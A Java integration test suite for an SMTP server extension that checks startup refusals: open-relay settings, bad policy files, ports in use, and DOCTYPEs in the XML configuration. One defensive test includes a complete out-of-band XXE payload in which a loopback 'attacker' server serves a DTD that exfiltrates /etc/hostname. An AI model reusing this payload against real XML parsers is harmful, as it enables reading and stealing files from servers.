package io.github.smtpshield.e2e;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import io.github.smtpshield.testing.FreePorts;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;

/**
 * The packaged server refuses to start as an open relay, with a bad policy file, with a DOCTYPE in James's XML
 * configuration or with a port it needs taken, with one clear line on the console and in the log, and no stack
 * trace (James's report of the failure is at DEBUG).
 */
class StartupGuardIT {
    private static final String PORT25_AUTHORIZED = "<authorizedAddresses>127.0.0.0/8</authorizedAddresses>";

    @Test
    void refusesToStartAsAnOpenRelay() {
        try (ShieldServer server = ShieldServer.prepare()) {
            server.editConf(
                    "smtpserver.xml",
                    xml -> xml.replace(
                            PORT25_AUTHORIZED, "<authorizedAddresses>127.0.0.0/8, 0.0.0.0/0</authorizedAddresses>"));

            assertThat(server.startExpectingFailure()).isNotZero();
            assertThat(server.output())
                    .contains(
                            "[ERROR] smtpshield - SMTP Shield refuses to start: smtpserver.xml: <smtpserver> 'smtpserver-global'"
                                    + " (0.0.0.0:" + server.smtpPort()
                                    + ") would be an open relay: <authorizedAddresses> '127.0.0.0/8, 0.0.0.0/0' lets every"
                                    + " address relay without authentication. Set <authorizedAddresses> to your own networks (for example 127.0.0.0/8),"
                                    + " or set <relay><allowOpenRelay>true</allowOpenRelay></relay> in smtpshield.xml to run an open relay anyway.");
        }
    }

    @Test
    void refusesAUnionOfRangesThatCoversEveryAddress() {
        try (ShieldServer server = ShieldServer.prepare()) {
            server.editConf(
                    "smtpserver.xml",
                    xml -> xml.replace(
                            PORT25_AUTHORIZED, "<authorizedAddresses>0.0.0.0/1, 128.0.0.0/1</authorizedAddresses>"));

            assertThat(server.startExpectingFailure()).isNotZero();
            assertThat(server.output())
                    .contains("would be an open relay: <authorizedAddresses> '0.0.0.0/1, 128.0.0.0/1'");
        }
    }

    @Test
    void startsAsAnOpenRelayOnlyWhenTheAdministratorSaysSo() {
        try (ShieldServer server = ShieldServer.prepare()) {
            server.editConf(
                            "smtpserver.xml",
                            xml -> xml.replace(PORT25_AUTHORIZED, "<authorizedAddresses>*</authorizedAddresses>"))
                    .editConf(
                            "smtpshield.xml",
                            xml -> xml.replace(
                                    "<allowOpenRelay>false</allowOpenRelay>", "<allowOpenRelay>true</allowOpenRelay>"))
                    .start();

            assertThat(server.output())
                    .contains("[WARN ] smtpshield - SMTP Shield: allowOpenRelay is true, starting anyway:"
                            + " smtpserver.xml: <smtpserver> 'smtpserver-global'");
        }
    }

    @Test
    void refusesToStartWithABadPolicyFile() {
        try (ShieldServer server = ShieldServer.prepare()) {
            server.editConf(
                    "smtpshield.xml",
                    xml -> xml.replace(
                            "<maxMessagesPerHour>200</maxMessagesPerHour>",
                            "<maxMessagesPerHour>-5</maxMessagesPerHour>"));

            assertThat(server.startExpectingFailure()).isNotZero();
            assertThat(server.output())
                    .contains("[ERROR] smtpshield - SMTP Shield refuses to start: conf/smtpshield.xml:");
            assertThat(server.output()).contains("maxMessagesPerHour").contains("'-5'");
        }
    }

    @Test
    void refusesToStartWithoutItsPolicyFile() throws Exception {
        try (ShieldServer server = ShieldServer.prepare()) {
            java.nio.file.Files.delete(server.conf("smtpshield.xml"));

            assertThat(server.startExpectingFailure()).isNotZero();
            assertThat(server.output())
                    .contains("[ERROR] smtpshield - SMTP Shield refuses to start: conf/smtpshield.xml: file not found"
                            + " (the shield is enabled in extensions.properties, so it needs its policy file)");
        }
    }

    @Test
    void aPortInUseNamesTheListenerAndThePort() throws IOException {
        try (ShieldServer server = ShieldServer.prepare();
                ServerSocket taken = new ServerSocket()) {
            taken.bind(new InetSocketAddress("0.0.0.0", server.smtpPort()));

            assertThat(server.startExpectingFailure()).isEqualTo(1);
            String line = "smtp-shield: cannot start: port " + server.smtpPort()
                    + " of SMTP listener 'smtpserver-global' is in use";
            assertOneLineAndNoStackTrace(server, line);
        }
    }

    @Test
    void aRefusalOfTheShieldIsOneLineWithoutGuicesStackTrace() {
        try (ShieldServer server = ShieldServer.prepare()) {
            server.editConf("smtpshield.xml", xml -> xml.replace("<maxFailedCommands>10<", "<maxFailedCommands>ten<"));

            assertThat(server.startExpectingFailure()).isEqualTo(1);
            assertOneLineAndNoStackTrace(server, "SMTP Shield refuses to start: conf/smtpshield.xml:");
        }
    }

    @Test
    void anyOtherStartUpFailureIsOneLineNamingItsCause() throws IOException {
        try (ShieldServer server = ShieldServer.prepare()) {
            java.nio.file.Files.writeString(server.conf("keystore"), "not a PKCS12 keystore");
            java.nio.file.Files.writeString(server.conf("keystore.secret"), "0123456789abcdef");

            assertThat(server.startExpectingFailure()).isEqualTo(1);
            assertOneLineAndNoStackTrace(server, "smtp-shield: cannot start: ");
            assertThat(server.output()).contains("(the stack trace is logged at DEBUG)");
        }
    }

    /** The one ERROR line of a failed start, on the console and in logs/james.log, and no trace in either. */
    private static void assertOneLineAndNoStackTrace(ShieldServer server, String line) {
        for (String log : List.of(server.output(), server.jamesLog())) {
            List<String> errors =
                    log.lines().filter(text -> text.contains("[ERROR]")).toList();
            assertThat(errors).as(log).hasSize(1);
            assertThat(errors.get(0)).contains(line);
            assertThat(log)
                    .doesNotContain("Fatal error while starting James")
                    .doesNotContain("\tat ")
                    .doesNotContain("Exception:\n");
        }
    }

    /**
     * An external parameter entity in smtpserver.xml made James's configuration loader fetch a URL, and through it
     * send {@code /etc/hostname} out, at start-up. The shield checks James's XML files before anything of the shield
     * reads them: the loopback web server the entity points at must see no request at all.
     */
    @Test
    void refusesToStartOnADoctypeInJamesConfWithoutFetchingItsEntities() throws IOException {
        int port = FreePorts.take();
        List<String> requests = new CopyOnWriteArrayList<>();
        HttpServer attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", port), 0);
        attacker.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            byte[] dtd = ("<!ENTITY % hostname SYSTEM \"file:///etc/hostname\">\n"
                            + "<!ENTITY % send \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:" + port
                            + "/leak?%hostname;'>\">\n%send;\n%leak;\n")
                    .getBytes(UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            try (OutputStream body = exchange.getResponseBody()) {
                body.write(dtd);
            }
        });
        attacker.start();
        try (ShieldServer server = ShieldServer.prepare()) {
            server.editConf(
                    "smtpserver.xml",
                    xml -> xml.replace(
                            "<?xml version=\"1.0\"?>\n",
                            "<?xml version=\"1.0\"?>\n<!DOCTYPE smtpservers [<!ENTITY % remote SYSTEM"
                                    + " \"http://127.0.0.1:" + port + "/james.dtd\"> %remote;]>\n"));

            assertThat(server.startExpectingFailure()).isNotZero();
            assertThat(requests)
                    .as("requests the server made to the entity's URL")
                    .isEmpty();
            assertThat(server.output())
                    .contains("[ERROR] smtpshield - SMTP Shield refuses to start: conf/smtpserver.xml: line 2:"
                            + " malformed XML: DOCTYPE is disallowed");
        } finally {
            attacker.stop(0);
        }
    }
}
